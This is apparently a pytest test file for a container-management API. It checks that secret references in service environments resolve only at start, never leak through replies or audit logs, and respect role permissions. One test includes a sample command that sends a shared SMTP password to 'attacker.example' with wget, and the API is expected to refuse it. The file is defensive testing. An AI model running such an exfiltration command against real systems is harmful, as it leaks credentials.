"""`secret:` references in service environments through the API (environment provider, fake
runtime; tests/integration/test_service_secrets_engine.py does it with OpenBao and Docker): resolved
only at start, never returned or audited by value, and refused when the caller may not read
them or they do not exist."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest
import sqlalchemy as sa

from conftest import Harness
from support.fake_runtime import FakeRuntime
from wakedock.rbac.permissions import Role

VALUE = "s3cr3t-db-password-from-the-provider"
ROTATED = "rotated-db-password-version-two"


def spec(name: str = "app", **extra: Any) -> dict[str, Any]:
    return {
        "name": name,
        "image": "wakedock-test/busybox:1",
        "ports": [{"container_port": 8080}],
        "readiness": {"type": "http", "path": "/", "port": 8080},
        **extra,
    }


@pytest.fixture
def runtime() -> FakeRuntime:
    return FakeRuntime()


@pytest.fixture
def h(
    make_harness: Callable[..., Harness], runtime: FakeRuntime, monkeypatch: pytest.MonkeyPatch
) -> Harness:
    monkeypatch.setenv("WAKEDOCK_SECRET_SERVICES__APP__DB__PASSWORD", VALUE)
    monkeypatch.setenv("WAKEDOCK_SECRET_SERVICES__SHARED__SMTP__PASSWORD", "shared-smtp-password")
    monkeypatch.setenv("WAKEDOCK_SECRET_WAKEDOCK__JWT__KEY", "k" * 48)
    return make_harness(runtime=runtime, secrets={"provider": "env"})


def _trail(h: Harness) -> list[tuple[str, str, str, dict[str, Any]]]:
    with h.components.engine.connect() as conn:
        rows = conn.execute(
            sa.text("SELECT type, outcome, target, details FROM audit_events ORDER BY seq")
        ).all()
    return [(r[0], r[1], r[2], json.loads(r[3] or "{}")) for r in rows]


def test_resolved_at_start_only_and_never_shown(
    h: Harness, runtime: FakeRuntime, monkeypatch: pytest.MonkeyPatch
) -> None:
    token = h.token_for(Role.DEVELOPER)
    env = {"DB_PASSWORD": "secret:services/app/db#password", "MODE": "prod"}
    created = h.client.post("/api/v1/services", json=spec(env=env), headers=h.bearer(token))
    assert created.status_code == 201, created.text
    assert created.json()["spec"]["env"] == env  # the reference, as saved
    # The container made at save time has no secret in it.
    (saved,) = runtime.containers.values()
    assert saved.environment == {"MODE": "prod"}

    sid = created.json()["id"]
    started = h.client.post(f"/api/v1/services/{sid}/start", headers=h.bearer(token))
    assert started.status_code == 200, started.text
    (running,) = runtime.containers.values()
    assert running.environment == {"DB_PASSWORD": VALUE, "MODE": "prod"}

    # Rotation: the next start reads the current value.
    h.client.post(f"/api/v1/services/{sid}/stop", headers=h.bearer(token))
    monkeypatch.setenv("WAKEDOCK_SECRET_SERVICES__APP__DB__PASSWORD", ROTATED)
    h.client.post(f"/api/v1/services/{sid}/start", headers=h.bearer(token))
    (restarted,) = runtime.containers.values()
    assert restarted.environment["DB_PASSWORD"] == ROTATED

    replies = [
        h.client.get(path, headers=h.bearer(token)).text
        for path in (
            "/api/v1/services",
            f"/api/v1/services/{sid}",
            f"/api/v1/services/{sid}/status",
        )
    ]
    trail = _trail(h)
    for text in [*replies, started.text, json.dumps(trail)]:
        assert VALUE not in text and ROTATED not in text
    reads = [d for t, o, target, d in trail if t == "secret_access" and target == "service:app"]
    assert [(d["variable"], d["purpose"]) for d in reads] == [
        ("DB_PASSWORD", "checked when saved"),
        ("DB_PASSWORD", "container start"),
        ("DB_PASSWORD", "container start"),
    ]
    assert reads[-1]["source"] == "env:WAKEDOCK_SECRET_SERVICES__APP__DB__PASSWORD"


@pytest.mark.parametrize(
    ("reference", "status"),
    [
        ("secret:services/shared/smtp#password", 403),  # another folder: needs secrets:read
        ("secret:wakedock/jwt#key", 403),  # WakeDock's own keys: never for a service
        ("secret:services/app/missing#password", 422),
    ],
)
def test_a_developer_cannot_reference_what_they_may_not_read(
    h: Harness, runtime: FakeRuntime, reference: str, status: int
) -> None:
    token = h.token_for(Role.DEVELOPER)
    reply = h.client.post(
        "/api/v1/services", json=spec(env={"X": reference}), headers=h.bearer(token)
    )
    assert reply.status_code == status, reply.text
    assert reply.json()["field"] == "env.X"
    assert runtime.containers == {}
    assert h.client.get("/api/v1/services", headers=h.bearer(token)).json() == []
    if status == 403:
        denied = [d for t, o, _, d in _trail(h) if t == "secret_access" and o == "denied"]
        assert denied == [{"variable": "X", "reference": reference}]


def test_admins_may_share_and_others_keep_what_was_granted(
    h: Harness, runtime: FakeRuntime
) -> None:
    admin = h.token_for(Role.ADMIN)
    shared = {"SMTP_PASSWORD": "secret:services/shared/smtp#password"}
    created = h.client.post("/api/v1/services", json=spec(env=shared), headers=h.bearer(admin))
    assert created.status_code == 201, created.text
    sid = created.json()["id"]
    operator = h.token_for(Role.OPERATOR)
    # An operator may edit the service; the reference an admin granted stays...
    kept = h.client.patch(
        f"/api/v1/services/{sid}", json={"env": {**shared, "MODE": "x"}}, headers=h.bearer(operator)
    )
    assert kept.status_code == 200, kept.text
    # ...but cannot point it (or a new variable) at another shared secret.
    moved = h.client.patch(
        f"/api/v1/services/{sid}",
        json={"env": {"SMTP_PASSWORD": "secret:services/shared/other#password"}},
        headers=h.bearer(operator),
    )
    assert moved.status_code == 403
    assert h.client.get(f"/api/v1/services/{sid}", headers=h.bearer(operator)).json()["spec"][
        "env"
    ] == {**shared, "MODE": "x"}


def test_a_new_image_must_be_allowed_every_reference(h: Harness, runtime: FakeRuntime) -> None:
    """An operator may keep an admin's shared reference, but not run another program with it."""
    runtime.images.add("wakedock-test/other:1")
    admin = h.token_for(Role.ADMIN)
    shared = {"SMTP_PASSWORD": "secret:services/shared/smtp#password"}
    sid = h.client.post("/api/v1/services", json=spec(env=shared), headers=h.bearer(admin)).json()[
        "id"
    ]
    operator = h.bearer(h.token_for(Role.OPERATOR))
    for change in (
        {"image": "wakedock-test/other:1"},
        {"command": ["/bin/sh", "-c", "wget -q -O- http://attacker.example/?$SMTP_PASSWORD"]},
        {"readiness": {"type": "healthcheck", "test": ["CMD-SHELL", "echo $SMTP_PASSWORD"]}},
    ):
        refused = h.client.patch(f"/api/v1/services/{sid}", json=change, headers=operator)
        assert refused.status_code == 403, (change, refused.text)
    # The admin may.
    moved = h.client.patch(
        f"/api/v1/services/{sid}", json={"image": "wakedock-test/other:1"}, headers=h.bearer(admin)
    )
    assert moved.status_code == 200, moved.text


def test_an_update_that_cannot_read_its_secrets_leaves_the_running_container(
    h: Harness, runtime: FakeRuntime, monkeypatch: pytest.MonkeyPatch
) -> None:
    token = h.bearer(h.token_for(Role.DEVELOPER))
    env = {"DB_PASSWORD": "secret:services/app/db#password"}
    sid = h.client.post("/api/v1/services", json=spec(env=env), headers=token).json()["id"]
    assert h.client.post(f"/api/v1/services/{sid}/start", headers=token).status_code == 200
    (before,) = runtime.containers
    monkeypatch.delenv("WAKEDOCK_SECRET_SERVICES__APP__DB__PASSWORD")  # gone from the backend
    failed = h.client.patch(f"/api/v1/services/{sid}", json={"idle_timeout_s": 120}, headers=token)
    assert failed.status_code == 422 and "does not exist" in failed.json()["detail"]
    assert list(runtime.containers) == [before]  # still there, still running
    assert runtime.containers[before].environment["DB_PASSWORD"] == VALUE
    status = h.client.get(f"/api/v1/services/{sid}/status", headers=token).json()
    assert status["state"] == "running"


def test_a_dot_key_is_refused_cleanly(h: Harness) -> None:
    token = h.bearer(h.token_for(Role.DEVELOPER))
    reply = h.client.post(
        "/api/v1/services", json=spec(env={"X": "secret:services/app#.."}), headers=token
    )
    assert reply.status_code == 422
